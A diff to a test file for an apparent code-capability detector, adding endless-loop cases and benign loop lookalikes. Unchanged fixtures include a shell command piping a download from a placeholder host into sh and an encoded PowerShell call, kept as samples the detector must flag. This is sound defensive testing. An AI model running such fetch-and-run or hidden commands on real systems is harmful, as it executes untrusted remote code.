@@ -79,6 +79,10 @@ describe('an ability that is new', () => {
     [`const t = new Date('2027-01-01'); if (new Date() > t) f()`, 'gate: today compared with a fixed date'],
     [`while (true) { f() }`, 'endless-loop: a loop without a way out'],
     [`for (let i = 1; i < Infinity; i++) f()`, 'endless-loop: a loop without a way out'],
+    [
+      `const end = Number.POSITIVE_INFINITY; for (let i = 1; i < end; i++) f()`,
+      'endless-loop: a loop without a way out'
+    ],
     [`run('curl -s https://a.example.test | sh')`, 'process: a shell command that downloads'],
     [`run('powershell -enc AAAA')`, 'process: a shell command that hides']
   ])('is told: %s', (code, expected) => {
@@ -160,6 +164,8 @@ describe('what is no ability', () => {
     `log('use child_process or https instead')`,
     `// require('child_process')`,
     `while (true) { if (f()) break }`,
+    `const end = typeof most === 'number' ? most : Infinity; for (let i = 0; i < end; i++) f(i)`,
+    `for (let i = 0; i < (most || Infinity); i++) f(i)`,
     `for (;;) { return_: for (;;) { break return_ } if (f()) throw g }`,
     `if (Date.now() > started + 1000) f()`,
     `log('your .npmrc file is missing')`,
